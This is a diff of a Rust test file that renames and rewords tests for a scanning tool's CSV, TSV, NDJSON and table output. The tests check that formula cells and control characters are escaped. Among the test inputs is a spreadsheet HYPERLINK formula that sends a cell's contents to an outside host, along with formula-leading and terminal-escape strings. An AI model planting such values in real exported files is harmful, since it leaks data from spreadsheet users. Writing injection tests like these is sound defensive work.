@@ -1,4 +1,4 @@
-//! The forms that data is written in.
+//! Tests of the output formats.
 
 use hss_emulator::Fault;
 use serde_json::{Value, json};
@@ -17,7 +17,7 @@ fn names(names: &[&str]) -> Value {
 }
 
 #[test]
-fn no_cell_of_csv_is_a_formula_unless_it_is_wanted() {
+fn csv_escapes_formulas_unless_raw() {
     let reason = r#"=HYPERLINK("http://192.0.2.9/"&A1,"ok")"#;
     let hostile = ["=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", "＝1+1"];
     let mut rows = names(&hostile);
@@ -40,7 +40,7 @@ fn no_cell_of_csv_is_a_formula_unless_it_is_wanted() {
 }
 
 #[test]
-fn no_cell_hides_a_row_or_runs_where_a_spreadsheet_separates_otherwise() {
+fn cells_are_safe_with_other_separators() {
     let rows = json!([
         {"host_name": "\"hides", "failed_reasons": [{"vul_type": "linux_vul", "failed_reason": "=1+1"}]},
         {"host_name": "\u{2003}=1", "failed_reasons": [{"failed_reason": "a"}, {"failed_reason": "=1"}]},
@@ -58,8 +58,8 @@ fn no_cell_hides_a_row_or_runs_where_a_spreadsheet_separates_otherwise() {
 }
 
 #[test]
-fn a_grid_is_not_much_larger_than_what_it_shows() {
-    // 3,000 rows, each with a field of its own: 9,000,000 cells in csv.
+fn a_sparse_grid_is_refused() {
+    // 3,000 rows, each with a different field: 9,000,000 cells in csv.
     let objects: Vec<Value> = (0..3000).map(|number| json!({format!("f{number}"): 1})).collect();
     let body = json!({"total_num": 3000, "data_list": objects}).to_string();
     let api = |arguments: &[&str]| {
@@ -74,7 +74,7 @@ fn a_grid_is_not_much_larger_than_what_it_shows() {
     assert_eq!(api(&["-o", "ndjson"]).printed().lines().count(), 3000);
     let unknown = api(&["-o", "csv", "--columns", "nope"]);
     assert!(unknown.failed_with(1).contains("f48, f49 and 2950 more"), "{}", unknown.stderr);
-    // As many rows with the same fields are no reason.
+    // The same number of rows with the same fields is allowed.
     let same: Vec<Value> = (0..3000).map(|number| json!({"a": number})).collect();
     let server = Canned::new([canned::json(200, &json!({"data_list": same}).to_string())]);
     let ran = run(&mut hss_at(&server.url, &["api", "ListVulScanTask", "--query", "data_list", "-o", "csv"]));
@@ -82,7 +82,7 @@ fn a_grid_is_not_much_larger_than_what_it_shows() {
 }
 
 #[test]
-fn csv_is_read_back_as_it_was() {
+fn csv_round_trips() {
     let hostile = ["a,b", "say \"hi\"", " lead", "two\nlines", "", "生产-01", "'=1"];
     let ran = hosts(&names(&hostile), &["-o", "csv", "--raw-csv", "--columns", "host_name,scan_status"]);
     let mut reader = csv::Reader::from_reader(ran.printed().as_bytes());
@@ -91,7 +91,7 @@ fn csv_is_read_back_as_it_was() {
 }
 
 #[test]
-fn lines_of_json_have_the_values_and_no_control_characters() {
+fn ndjson_keeps_values_and_escapes_control_characters() {
     let hostile = ["\u{1b}[2J", "\u{9b}31m\u{7f}\u{202e}x", "a\nb\rc", "生产\u{1f600}"];
     let ran = hosts(&names(&hostile), &["-o", "ndjson"]);
     assert!(
@@ -103,7 +103,7 @@ fn lines_of_json_have_the_values_and_no_control_characters() {
 }
 
 #[test]
-fn columns_line_up_whatever_stands_in_them() {
+fn tables_align_any_content() {
     let long = "x".repeat(128);
     let rows = json!([
         {"host_name": "生产-数据库-01", "scan_status": "failed", "failed_reasons": [{"failed_reason": "磁盘空间不足"}]},
@@ -129,7 +129,7 @@ fn columns_line_up_whatever_stands_in_them() {
 }
 
 #[test]
-fn a_query_is_asked_of_the_whole_document_in_every_form() {
+fn a_query_applies_to_the_whole_document_in_every_format() {
     let query = |query: &str, format: &str| {
         run(&mut hss(&["--demo", "scan", "hosts", TASK, "-q", "-o", format, "--query", query]))
     };
@@ -164,7 +164,7 @@ fn a_query_is_asked_of_the_whole_document_in_every_form() {
 }
 
 #[test]
-fn a_row_of_one_empty_cell_is_an_empty_line_of_tsv() {
+fn tsv_writes_one_empty_cell_as_an_empty_line() {
     let rows =
         json!([{"host_name": "a", "public_ip": "192.0.2.1"}, {"host_name": "b"}, {"host_name": "c", "public_ip": ""}]);
     let tsv = |arguments: &[&str]| hosts(&rows, &[&["-o", "tsv"], arguments].concat()).printed().to_owned();
@@ -172,7 +172,7 @@ fn a_row_of_one_empty_cell_is_an_empty_line_of_tsv() {
     assert_eq!(tsv(&["--columns", "public_ip", "--raw-csv"]), "public_ip\n192.0.2.1\n\n\n");
     assert_eq!(tsv(&["--columns", "host_name,public_ip"]), "host_name\tpublic_ip\na\t192.0.2.1\nb\t\nc\t\n");
     assert_eq!(tsv(&["--query", "data_list[1].public_ip"]), "\n");
-    // In csv, an empty line is no row.
+    // In csv, an empty line is not a row.
     assert_eq!(
         hosts(&rows, &["-o", "csv", "--columns", "public_ip"]).printed(),
         "public_ip\r\n192.0.2.1\r\n\"\"\r\n\"\"\r\n"
@@ -196,7 +196,7 @@ fn columns_are_chosen_by_name() {
 }
 
 #[test]
-fn a_column_that_there_is_not_costs_no_request() {
+fn an_unknown_column_is_refused_before_a_request() {
     let emulator = canned::on_emulator(30, Vec::new());
     for command in [
         &["hosts", TASK][..],
@@ -214,13 +214,13 @@ fn a_column_that_there_is_not_costs_no_request() {
 }
 
 #[test]
-fn an_answer_of_any_operation_has_every_form() {
+fn api_writes_every_format() {
     let api = |arguments: &[&str]| run(hss(&["--demo", "api", "ListVulScanTask", "--limit", "10"]).args(arguments));
-    assert!(api(&[]).printed().starts_with("{\"total_num\":12,"), "as it came");
+    assert!(api(&[]).printed().starts_with("{\"total_num\":12,"), "unchanged");
     assert_eq!(api(&["-o", "json"]).printed(), api(&[]).printed());
     let table = api(&["-o", "table"]);
     assert!(table.printed().starts_with("total_num  data_list\n12         [{"), "{}", table.stdout);
-    // No body is nothing to show, in whatever form.
+    // An empty body produces no output in any format.
     for format in ["table", "json", "csv", "ndjson"] {
         let server = Canned::new([canned::json(200, "")]);
         let mut command =
@@ -237,7 +237,7 @@ fn an_answer_of_any_operation_has_every_form() {
 }
 
 #[test]
-fn a_change_has_every_form_that_is_asked_for() {
+fn start_and_rescan_write_every_format() {
     let emulator = canned::on_emulator(60, Vec::new());
     let task = newest_task(&emulator.url);
     let rescan = ["scan", "rescan", &task, "--failed"];
@@ -251,7 +251,7 @@ fn a_change_has_every_form_that_is_asked_for() {
         (&["-o", "tsv", "--query", "task_id"], format!("{task}\n")),
         (&["--query", "task_id"], format!("{task}\n")),
     ] {
-        // Whether servers failed or not.
+        // The result is the same whether servers failed or not.
         let ran = run(hss_at(&emulator.url, &rescan).args(format));
         assert_eq!(ran.printed(), written, "{format:?}: {}", ran.stderr);
         let started = run(hss_at(&emulator.url, &["scan", "start", "--all-hosts"]).args(format));
@@ -268,7 +268,7 @@ fn a_change_has_every_form_that_is_asked_for() {
 }
 
 #[test]
-fn lines_come_page_by_page_and_all_else_when_it_is_whole() {
+fn ndjson_is_streamed_and_other_formats_are_not() {
     for (format, lines) in [("ndjson", 400), ("json", 0), ("csv", 0), ("tsv", 0), ("table", 401)] {
         let fault = Fault { page: Some(3), ..canned::json(502, "<html>") };
         let emulator = canned::on_emulator(1000, vec![fault]);
@@ -297,7 +297,7 @@ fn causes_are_counted() {
 }
 
 #[test]
-fn causes_of_some_of_the_servers_are_said_to_be_that() {
+fn partial_counts_of_causes_are_reported() {
     let emulator = canned::on_emulator(450, Vec::new());
     let task = newest_task(&emulator.url);
     let count = |more: &[&str]| run(hss_at(&emulator.url, &["scan", "hosts", &task, "--group-by", "cause"]).args(more));
@@ -311,7 +311,7 @@ fn causes_of_some_of_the_servers_are_said_to_be_that() {
 }
 
 #[test]
-fn a_failure_that_can_never_match_is_refused() {
+fn a_fail_on_that_can_never_match_is_refused() {
     let emulator = canned::on_emulator(30, Vec::new());
     for (arguments, said) in [
         (
@@ -332,7 +332,7 @@ fn a_failure_that_can_never_match_is_refused() {
 }
 
 #[test]
-fn a_pipeline_may_fail_on_failed_servers() {
+fn fail_on_ends_with_status_10() {
     for (arguments, status) in [
         (&["--fail-on", "failed"][..], 10),
         (&["--fail-on=failed=1"], 10),
@@ -362,8 +362,8 @@ fn a_result_without_columns_has_none_to_choose() {
 }
 
 #[test]
-fn rows_that_cannot_be_kept_are_said_to_be_what_failed() {
-    // More than is kept in memory, once it is escaped.
+fn an_error_of_the_temporary_file_is_reported() {
+    // Once escaped, this is more than is kept in memory.
     let page = json!({"total_num": 1, "data_list": [{"host_name": "\u{7f}".repeat(2 * 1024 * 1024)}]}).to_string();
     for format in ["json", "csv", "tsv", "table"] {
         let server = Canned::new([canned::json(200, &page)]);
